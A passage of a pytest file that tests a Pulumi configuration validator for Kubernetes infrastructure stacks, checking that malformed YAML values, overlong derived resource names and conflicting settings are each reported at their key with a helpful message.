     "`` is not a directory group name: write the group's name, without surrounding spaces or control characters"),
    # Issue 18 item 8: YAML's reading of unquoted scalars and keys, said so with what to do.
    ("version-read-as-number", "prod", set_in("infrastructure", "kubernetes_version", 1.30), "infrastructure.kubernetes_version",
     "Input should be a valid string; YAML read it as the number 1.3 (unquoted, 1.30 reads as 1.3): put the value in quotes as "
     "written (`\"1.30\"`)"),
    ("group-read-as-boolean", "prod", set_in("teams", "0.groups", [False]), "teams[0].groups[0]",
     "Input should be a valid string; YAML reads unquoted yes/no/on/off/true/false as a boolean (here false): put the word in "
     "quotes as written (`\"off\"`)"),
    ("env-value-read-as-number", "prod", set_in("teams", "0.workloads.1.env", {"WORKERS": 4}), "teams[0].workloads[1].env.WORKERS",
     "Input should be a valid string; YAML read it as the number 4: put it in quotes (`\"4\"`)"),
    ("enabled-quoted", "prod", set_in("services", "kafka.enabled", "off"), "services.kafka.enabled",
     "Input should be a valid boolean; write true or false, unquoted"),
    ("node-pool-key-number", "prod", set_in("infrastructure", "node_pools", {1: {"vm_size": "Standard_D4s_v5", "min_count": 1,
                                                                                 "max_count": 2}}),
     "infrastructure.node_pools.1", "the key `1` is not text: YAML read it as a number; put it in quotes"),
    ("quantity-negative", "prod", set_in("teams", "0.quota.cpu", "-4"), "teams[0].quota.cpu",
     "`-4` is negative; a request, limit or quota is zero or more"),
    ("quantity-beyond-int64", "prod", set_in("teams", "0.quota.memory", "1e19"), "teams[0].quota.memory",
     "`1e19` is larger than Kubernetes' largest quantity (2^63-1)"),
    # Issue 18 item 4: derived names against the rule of the system that receives them (stacks/naming.py).
    (
        "team-data-namespace-too-long",
        "prod",
        set_in("teams", "0.name", "p" * 60),
        "teams[0].name",
        f"makes the data namespace `{'p' * 60}-data` (65 characters), which is not a Kubernetes name: at most 63 lower-case letters, "
        "digits and '-', starting and ending with a letter or digit; shorten it",
    ),
    (
        "zalando-cluster-too-long",
        "prod",
        set_in("teams", "0.databases.0.name", "d" * 50),
        "teams[0].databases[0].name",
        f"makes the Zalando cluster name `payments-{'d' * 50}` (59 characters), which Kubernetes refuses: at most 58 lower-case "
        "letters, digits and '-', starting with a letter and ending with a letter or digit",
    ),
    (
        "zalando-cluster-starts-with-digit",
        "prod",
        lambda d: (set_in("teams", "0.name", "9payments")(d), set_in("teams", "0.workloads", [])(d)),
        "teams[0].databases[0].name",
        "makes the Zalando cluster name `9payments-db` (12 characters), which Kubernetes refuses: at most 58 lower-case letters, "
        "digits and '-', starting with a letter and ending with a letter or digit",
    ),
    (
        "cronjob-name-too-long",
        "prod",
        lambda d: (set_in("teams", "0.workloads.2.name", "n" * 53)(d)),
        "teams[0].workloads[2].name",
        f"makes the CronJob name `{'n' * 53}` (53 characters), which is not a Kubernetes name: at most 52 lower-case letters, "
        "digits, '-' and '.', starting and ending with a letter or digit; shorten it",
    ),
    (
        "service-name-starts-with-digit",
        "prod",
        set_in("teams", "0.workloads.0.name", "2fa-api"),
        "teams[0].workloads[0].name",
        "makes the Service name `2fa-api` (7 characters), which Kubernetes refuses: at most 63 lower-case letters, digits and '-', "
        "starting with a letter and ending with a letter or digit",
    ),
    (
        "redis-statefulset-too-long",
        "prod",
        set_in("teams", "1.caches.0.name", "c" * 50),
        "teams[1].caches[0].name",
        f"makes the Redis StatefulSet name `rfr-{'c' * 50}` (54 characters), which is not a Kubernetes name: at most 52 lower-case "
        "letters, digits and '-', starting and ending with a letter or digit; shorten it",
    ),
    (
        "rabbitmq-statefulset-too-long",
        "prod",
        set_in("teams", "0.queues.0.name", "q" * 46),
        "teams[0].queues[0].name",
        f"makes the RabbitMQ StatefulSet name `{'q' * 46}-server` (53 characters), which is not a Kubernetes name: at most 52 "
        "lower-case letters, digits and '-', starting and ending with a letter or digit; shorten it",
    ),
    (
        "kafka-topic-empty-label",
        "prod",
        set_in("teams", "1.topics.0.name", "documents..v2"),
        "teams[1].topics[0].name",
        "makes the KafkaTopic `search.documents..v2` (20 characters): Kafka takes at most 249, and a resource name is dot-separated "
        "labels of lower-case letters, digits and '-'",
    ),
    (
        "aks-dns-prefix-too-long",
        "prod",
        set_section("site", {"name": "s" * 33}),
        "site.name",
        f"makes the AKS DNS prefix `complete-cluster-prod-{'s' * 33}` (55 characters); AKS takes at most 54: shorten the site name",
    ),
    (
        "rancher-cluster-name-spaces",
        "onprem-dc2",
        set_in("infrastructure", "data_centre", "Data Centre 2"),
        "infrastructure.data_centre",
        "makes the Rancher cluster name `prod-Data Centre 2` (18 characters), which is not a Kubernetes name: at most 63 lower-case "
        "letters, digits and '-', starting and ending with a letter or digit; shorten it",
    ),
    (
        "azure-tag-too-long",
        "prod",
        set_section("ownership", {"owner": "o" * 257}),
        "ownership.owner",
        "is 257 characters; Azure tag values hold at most 256",
    ),
    (
        "team-named-like-platform-namespace",
        "prod",
        set_in("teams", "1.name", "kafka"),
        "teams[1].name",
        "`kafka` is a namespace the platform runs in; choose another team name",
    ),
    (
        "team-named-like-data-namespace",
        "prod",
        set_in("teams", "1.name", "payments-data"),
        "teams[1].name",
        "`payments-data` is the data namespace of team `payments`; choose another team name",
    ),
    (
        "two-apis-same-host-and-path",
        "prod",
        set_in("teams", "1.workloads.0.host", "payments.example.com"),
        "teams[1].workloads[0].path",
        "payments.example.com/ is already served by teams[0].workloads[0] (`payments-api` of team `payments`); give each API its own "
        "host or path",
    ),
    (
        "acme-behind-internal-load-balancer",
        "prod",
        set_in("services", "cert_manager.issuer", {"kind": "acme", "email": "platform-team@example.com"}),
        "services.cert_manager.issuer.kind",
        "ACME HTTP-01 challenges must reach the ingress controller from the internet, but services.ingress.internal_load_balancer "
        "is true; use `internal_ca`, or a public ingress where the policy allows it",
    ),
]


@pytest.mark.parametrize("stack, mutate, path, message", [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_bad_config_is_reported_at_its_key_and_registers_nothing(tmp_path, stack, mutate, path, message):
    document = copy.deepcopy(BASE[stack])
    mutate(document)
    stack_file = tmp_path / f"Pulumi.{stack}.yaml"
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
    registered: list = []
    with pytest.raises(ConfigError) as raised:
        evaluate(stack, stack_file, into=registered)
    assert (path, message) in raised.value.problems, str(raised.value)
    assert str(raised.value).startswith(f"{stack_file} has ")
    assert registered == []


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 30


def test_every_problem_is_reported_at_once(tmp_path):
    document = copy.deepcopy(BASE["prod"])
    for case_id, stack, mutate, _path, _message in CASES:
        if stack == "prod" and case_id in (
            "node-pool-min-above-max",
            "prod-public-api-server",
            "kafka-replication-above-brokers",
            "team-key-typo",
        ):
            mutate(document)
    stack_file = tmp_path / "Pulumi.prod.yaml"
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
    with pytest.raises(ConfigError) as raised:
        evaluate("prod", stack_file)
    assert raised.value.problems == [
        ("infrastructure.api_server.public", "prod must not expose the API server publicly; set `public: false`"),
        ("infrastructure.node_pools.ai.min_count", "must be <= max_count (30 > 25)"),
        ("services.kafka.default_replication_factor", "cannot exceed the broker count (5 > 3)"),
        ("teams[1].gruops", "unknown key (did you mean `groups`?)"),
    ]


def test_rancher_and_existing_clusters_keep_group_names(tmp_path):
    """Rancher resolves names through `group_principal`; an existing cluster's authenticator is its own."""
    for stack, infrastructure in (("onprem-dc2", None), ("local", {"kind": "existing", "kubeconfig": secure("a")})):
        document = copy.deepcopy(BASE[stack])
        if infrastructure is not None:
            set_section("infrastructure", infrastructure)(document)
        section(document, "policy")["platform_groups"] = ["platform-operators"]
        for team in section(document, "teams"):
            team["groups"] = [f"{team['name']}-developers"]
        stack_file = tmp_path / f"Pulumi.{stack}.yaml"
        stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
        assert evaluate(stack, stack_file)


def test_yaml_syntax_error_names_the_line(tmp_path):
    stack_file = tmp_path / "Pulumi.prod.yaml"
    stack_file.write_text("config:\n  complete-cluster:environment: prod\n  complete-cluster:site: {name: [\n")
    with pytest.raises(ConfigError) as raised:
        evaluate("prod", stack_file)
    assert raised.value.problems[0][1].startswith("line 4, column 1: not valid YAML")


def test_every_layer_is_reported_at_once(tmp_path):
    """A file-level key, a field error, a cross-section rule and a cross-stack rule in one report (issue 18
    item 7): each layer used to hide the next, and a team's bad `uses` instance vanished whenever another
    section had an error (issue 17 item 9)."""
    document = copy.deepcopy(BASE["onprem-dc2"])
    document["config"]["tags"] = "platform"
    set_in("infrastructure", "network.cluster_cidr", "10.42.0.0/16")(document)
    set_section("policy", {"budget_monthly": -1})(document)
    set_section("teams", [copy.deepcopy(section(BASE["prod"], "teams")[0])])(document)
    section(document, "teams")[0]["workloads"][0]["uses"] = [{"service": "postgres", "instance": "ledger"}]
    section(document, "teams")[0]["workloads"][0]["image"] = "harbor.dc2.example.com/payments/payments-api:2.14.0"
    stack_file = tmp_path / "Pulumi.onprem-dc2.yaml"
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
    with pytest.raises(ConfigError) as raised:
        evaluate("onprem-dc2", stack_file)
    assert raised.value.problems == [
        ("tags", "not a key of this project; write it as `complete-cluster:<section>` (sections: environment, site, ownership, "
                 "infrastructure, storage, services, teams, policy, charts)"),
        ("policy.budget_monthly", "Input should be greater than 0"),
        ("teams[0].workloads[0].uses[0].instance", "team `payments` declares no postgres instance `ledger`; its databases: `db`. "
                                                   "Declare it under teams[0].databases or name one that exists"),
        ("infrastructure.network.cluster_cidr", "10.42.0.0/16 overlaps cluster_cidr of `onprem-dc1` (10.42.0.0/16); the sites of one "
                                                "environment need disjoint ranges"),
    ], str(raised.value)


def test_values_the_target_systems_accept_are_accepted(tmp_path):
    """Valid values once refused: an image path component with `--` (the OCI distribution spec's
    `[a-z0-9]+((\\.|_|__|-+)[a-z0-9]+)*`), quantities in each form of Kubernetes' grammar, and schedules
    robfig/cron reads (names, `?`, `N/step`)."""
    document = copy.deepcopy(BASE["prod"])
    workloads = section(document, "teams")[0]["workloads"]
    workloads[1]["image"] = "platformacr.azurecr.io/payments/settlement--worker:2.14.0"
    workloads[1]["resources"] = {"cpu_request": ".1", "cpu_limit": "5e-1", "memory_request": "128Mi", "memory_limit": "1.e9"}
    workloads[2]["schedule"] = "30/15 2 ? * sun-sat"
    section(document, "teams")[0]["quota"] = {"cpu": "16e0", "memory": "32Gi", "pods": 100, "storage": "200Gi"}
    stack_file = tmp_path / "Pulumi.prod.yaml"
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
    registrations = evaluate("prod", stack_file)
    deployments = [r for r in registrations if r.type == "kubernetes:apps/v1:Deployment" and "settlement-worker" in r.name]
    assert [d.inputs["spec"]["template"]["spec"]["containers"][0]["image"] for d in deployments] == [workloads[1]["image"]]


@pytest.mark.parametrize("stack, version", [("prod", "1.30"), ("prod", "1.100.1"), ("onprem-dc2", "v1.30.0+rke2r1")])
def test_kubernetes_versions_from_1_30_on_are_accepted(tmp_path, stack, version):
    document = copy.deepcopy(BASE[stack])
    set_in("infrastructure", "kubernetes_version", version)(document)
    stack_file = tmp_path / f"Pulumi.{stack}.yaml"
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
    infrastructure = load(stack, stack_file).infrastructure
    assert isinstance(infrastructure, (Aks, Rancher)) and infrastructure.kubernetes_version == version
